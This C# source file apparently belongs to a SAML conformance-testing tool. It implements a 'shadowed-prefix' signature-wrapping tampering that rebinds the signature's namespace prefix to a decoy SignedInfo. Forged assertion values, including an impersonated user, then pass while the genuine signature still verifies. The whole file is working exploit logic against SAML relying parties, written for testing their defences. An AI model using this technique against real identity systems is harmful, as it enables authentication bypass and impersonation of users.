using System.Xml;
using Conformance.Saml.Forging;
using Conformance.Saml.Names;

namespace Conformance.Saml.Tamperings.Attacks;

/// <summary>
/// Wrapping behind a prefix that means something else: who looks for elements by the prefix as it stands in the document finds a decoy, who looks by
/// the namespace finds the genuine ones.
/// </summary>
internal sealed class ShadowedPrefix(TamperingArguments arguments) : Tampering
{
    private const string Shadow = "urn:example:shadow";
    private const string Free = "dz";

    public static CatalogueEntry Entry { get; } = new(
        new TamperingDescription(
            "shadowed-prefix",
            "Wraps the signed assertion, and gives the signature's usual prefix another namespace, in which a decoy of the SignedInfo stands.",
            "The IdP's signature verifies over the untouched genuine assertion; the forged values are not covered.",
            [
                new("declared-at", "Where the prefix gets its other meaning.", ["signature", "assertion", "response"], Required: true),
                new("decoy", "Whether the decoy refers to the forged assertion, or to nothing.", ["without-reference", "with-reference"]),
                new("genuine-at", "Where the genuine assertion stands.", ["forged-advice", "response-extensions", "object-of-signature"], Required: true),
                Impersonation.Parameter,
            ]),
        arguments => new ShadowedPrefix(arguments));

    public override string Name => "shadowed-prefix";

    public override void AfterSigning(Workpiece work)
    {
        var target = Impersonation.Target(arguments, work.Context);
        var wrapping = new Wrapping(work, "assertion", target, outOfOrder: false);
        wrapping.SetForgedId("new");
        wrapping.Arrange("forged", arguments.Required("genuine-at"));
        wrapping.ClaimPotency(target);

        var usual = wrapping.Signature.Prefix;
        if (usual.Length == 0)
        {
            throw new TamperingNotPossibleException("this identity provider writes its signatures without a prefix that could be given another meaning.");
        }

        var signature = Renamed(wrapping.Signature, usual);
        var holder = arguments.Required("declared-at") switch
        {
            "signature" => signature,
            "assertion" => wrapping.Forged,
            _ => work.Root,
        };
        Dom.SetNamespace(holder, usual, Shadow);
        signature.PrependChild(Decoy(work.Document, usual, wrapping.Forged.GetAttribute("ID")));
    }

    // Each part declares for itself what the prefix meant before, so that nothing that was signed changes.
    private static XmlElement Renamed(XmlElement signature, string usual)
    {
        var renamed = signature.OwnerDocument.CreateElement(Free, signature.LocalName, SamlNamespaces.XmlSignature);
        Dom.SetNamespace(renamed, Free, SamlNamespaces.XmlSignature);
        foreach (var part in Dom.Children(signature).ToList())
        {
            renamed.AppendChild(Dom.Detach(part));
            Dom.SetNamespace(part, usual, SamlNamespaces.XmlSignature);
        }

        signature.ParentNode!.ReplaceChild(renamed, signature);
        return renamed;
    }

    private XmlElement Decoy(XmlDocument document, string prefix, string forgedId)
    {
        var info = document.CreateElement(prefix, "SignedInfo", Shadow);
        Dom.SetNamespace(info, prefix, Shadow);
        Dom.Append(info, prefix, "SignatureMethod", Shadow).SetAttribute("Algorithm", SignatureAlgorithms.RsaSha256);
        if (arguments.Text("decoy") == "with-reference")
        {
            Dom.Append(info, prefix, "Reference", Shadow).SetAttribute("URI", "#" + forgedId);
        }

        return info;
    }
}
